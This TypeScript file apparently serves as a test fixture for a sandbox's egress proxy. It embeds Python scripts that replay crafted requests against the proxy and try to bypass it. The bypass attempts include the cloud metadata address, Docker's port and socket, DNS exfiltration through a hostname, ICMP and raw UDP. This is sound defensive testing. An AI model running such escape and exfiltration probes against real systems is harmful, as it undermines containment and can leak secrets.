/** Attacks on the way out of a sandbox: what runs in it, as a workspace's own tests would. */

/**
 * Reads attacks from `attacks.json`, plays each against the proxy, and prints what came of it, a line each:
 * `name | first line of the answer | rule`. An attack is bytes to send, or `tls`: bytes inside a tunnel of that target
 * and that server name. Of an answer that is silent, reset or closed it says so.
 */
export const ATTACKER = `import json, re, socket, ssl, sys
def answer(s):
  got = b""
  try:
    while True:
      piece = s.recv(65536)
      if not piece: break
      got += piece
  except socket.timeout: got = got or b"silence"
  except OSError as error: got = got or str(error).encode()
  return got.decode("latin1")
def connected():
  s = socket.create_connection(("127.0.0.1", 3128)); s.settimeout(5)
  return s
def played(attack):
  s = connected()
  if "tls" in attack:
    to = attack["tls"]
    s.sendall(f"CONNECT {to} HTTP/1.1\\r\\nHost: {to}\\r\\n\\r\\n".encode())
    opened = s.recv(65536)
    if b" 200 " not in opened.split(b"\\r\\n")[0]: return opened.decode("latin1")
    trusted = ssl.create_default_context(); trusted.check_hostname = False; trusted.verify_mode = ssl.CERT_NONE
    s = trusted.wrap_socket(s, server_hostname=attack["sni"])
  for piece in attack["bytes"]: s.sendall(piece.encode("latin1"))
  return answer(s)
for attack in json.load(open("attacks.json")):
  try: told = played(attack)
  except Exception as error: told = type(error).__name__
  rule = re.search(r"^rule: +(\\S+)", told, re.M)
  print(attack["name"], "|", told.split("\\r\\n")[0], "|", rule.group(1) if rule else "-", flush=True)
`;

/**
 * What a planted test script tries past the proxy, a line each: raw TCP, UDP, names, QUIC, ICMP, with no variable set.
 * Prints `name: done` for what worked, else why not.
 */
export const PAST_THE_PROXY = `import os, socket, ssl, sys, urllib.request
for name in list(os.environ):
  if name.lower().endswith("_proxy"): del os.environ[name]
def tried(name, attack):
  try: attack(); print(f"{name}: done", flush=True)
  except Exception as error: print(f"{name}: {type(error).__name__}", flush=True)
def tcp(address, port):
  def attack(): socket.create_connection((address, port), 2).send(b"x")
  return attack
def udp(address, port, family=socket.AF_INET):
  def attack(): socket.socket(family, socket.SOCK_DGRAM).sendto(b"x" * 1200, (address, port))
  return attack
port = int(sys.argv[1])
for address in ("203.0.113.7", "172.17.0.1", "169.254.169.254", "10.0.0.1", "127.0.0.11"): tried(f"tcp {address}", tcp(address, port))
tried("tcp to the host over the sandbox's loopback", tcp("127.0.0.1", port))
tried("tcp over IPv6", tcp("2001:db8::1", port))
tried("Docker's port", tcp("172.17.0.1", 2375))
tried("Docker's port on loopback", tcp("127.0.0.1", 2375))
tried("dns over udp", udp("8.8.8.8", 53))
tried("dns over tcp", tcp("8.8.8.8", 53))
tried("a name", lambda: socket.getaddrinfo("secret-in-a-name.example.org", 443))
tried("quic", udp("203.0.113.7", 443))
tried("quic over IPv6", udp("2001:db8::1", 443, socket.AF_INET6))
tried("multicast", udp("224.0.0.251", 5353))
tried("broadcast", udp("255.255.255.255", 9))
tried("icmp", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP).sendto(b"x", ("8.8.8.8", 0)))
tried("icmp, raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
tried("a request without proxy variables", lambda: urllib.request.urlopen(f"https://api.test:{port}/public/x", timeout=3))
tried("Docker's socket", lambda: socket.socket(socket.AF_UNIX).connect("/var/run/docker.sock"))
tried("an abstract socket of the host", lambda: socket.socket(socket.AF_UNIX).connect("\\0" + sys.argv[2]))
`;
